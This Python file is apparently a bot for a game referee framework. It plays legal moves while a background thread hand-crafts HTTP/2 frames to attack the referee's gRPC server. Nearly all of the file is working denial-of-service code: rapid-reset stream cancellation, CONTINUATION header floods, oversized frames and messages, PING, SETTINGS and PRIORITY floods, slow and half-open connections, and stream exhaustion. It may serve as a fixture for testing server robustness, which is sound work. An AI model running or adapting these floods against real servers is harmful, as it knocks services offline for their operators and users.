"""Plays its first legal moves over one stream, and abuses HTTP/2 at the same socket over many others, with no library.

Prints "all attacks made" when it has made each attack once; it goes on until the game is over.
"""

import os
import socket
import struct
import threading
import time
from collections.abc import Callable
from contextlib import suppress

from mtref_sdk import Bot, Decision, GameStart, Move, run

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, CONTINUATION = 0, 1, 2, 3, 4, 6, 9
END_HEADERS = 4


def frame(kind: int, flags: int, stream: int, payload: bytes = b"", length: int | None = None) -> bytes:
    size = len(payload) if length is None else length
    return struct.pack(">I", size)[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def text(name: int, value: bytes) -> bytes:
    """A header with a name of HPACK's static table, not indexed and not compressed."""
    first = bytes([name]) if name < 15 else bytes([15, name - 15])
    return first + bytes([len(value)]) + value


REQUEST = (
    b"\x83\x86"  # POST, http
    + text(4, b"/mtref.v1.RefereeService/Play")
    + text(1, b"x")
    + text(31, b"application/grpc")
    + b"\x00\x02te\x08trailers"
)
AUTHORIZED = REQUEST + text(23, b"Bearer " + os.environ["MTREF_TOKEN"].encode())


def connect(hello: bytes = PREFACE + frame(SETTINGS, 0, 0)) -> socket.socket:
    peer = socket.socket(socket.AF_UNIX)
    peer.settimeout(2)
    peer.connect(os.environ["MTREF_ADDRESS"].removeprefix("unix:"))
    peer.sendall(hello)
    return peer


def flood(frames: bytes, times: int) -> None:
    """Send this so often on one connection, reading nothing; an end of the connection is what is hoped for."""
    with connect() as peer, suppress(OSError):
        for _ in range(times):
            peer.sendall(frames)


KEPT: list[socket.socket] = []


def slow_handshake() -> None:
    KEPT.append(connect(PREFACE[:1]))


def silent_after_the_handshake() -> None:
    KEPT.append(connect())


def half_open_call() -> None:
    KEPT.append(connect())
    KEPT[-1].sendall(frame(HEADERS, END_HEADERS, 1, AUTHORIZED))


def rapid_resets() -> None:
    with connect() as peer, suppress(OSError):
        for stream in range(1, 8001, 2):
            cancel = struct.pack(">I", 8)
            peer.sendall(frame(HEADERS, END_HEADERS, stream, REQUEST) + frame(RST_STREAM, 0, stream, cancel))


def many_streams() -> None:
    with connect() as peer, suppress(OSError):
        for stream in range(1, 2001, 2):
            peer.sendall(frame(HEADERS, END_HEADERS, stream, AUTHORIZED))


def endless_headers() -> None:
    more = b"\x00\x04long\x7f\x00" + b"x" * 127
    with connect() as peer, suppress(OSError):
        peer.sendall(frame(HEADERS, 0, 1, REQUEST))
        for _ in range(2000):
            peer.sendall(frame(CONTINUATION, 0, 1, more * 60))


def giant_frames() -> None:
    flood(frame(DATA, 0, 1, b"x" * 65536, length=(1 << 24) - 1), 256)


def giant_message() -> None:
    with connect() as peer, suppress(OSError):
        peer.sendall(frame(HEADERS, END_HEADERS, 1, AUTHORIZED))
        peer.sendall(frame(DATA, 0, 1, b"\x00\xff\xff\xff\xff" + b"x" * 1024))
        for _ in range(2000):
            peer.sendall(frame(DATA, 0, 1, b"x" * 16000))


ATTACKS: tuple[Callable[[], None], ...] = (
    slow_handshake,
    silent_after_the_handshake,
    half_open_call,
    rapid_resets,
    many_streams,
    endless_headers,
    giant_frames,
    giant_message,
    lambda: flood(frame(PING, 0, 0, b"12345678"), 20_000),
    lambda: flood(frame(SETTINGS, 0, 0), 20_000),
    lambda: flood(frame(PRIORITY, 0, 1, b"\0\0\0\0\x10"), 20_000),
    lambda: flood(b"GET / HTTP/1.1\r\n\r\n" + b"\xff" * 4096, 200),
)


class Abuser(Bot):
    def __init__(self) -> None:
        self.decisions = 0

    def game_started(self, game: GameStart) -> None:
        threading.Thread(target=attack, daemon=True).start()

    def choose(self, decision: Decision) -> Move:
        self.decisions += 1
        if self.decisions == 8:
            done.wait()
        return decision.legal_moves[0]


def attack() -> None:
    while True:
        for make in ATTACKS:
            with suppress(OSError):
                make()
        if not done.is_set():
            print("all attacks made", flush=True)
        done.set()
        for peer in KEPT:
            peer.close()
        KEPT.clear()
        time.sleep(0.1)


done = threading.Event()

if __name__ == "__main__":
    run(Abuser())
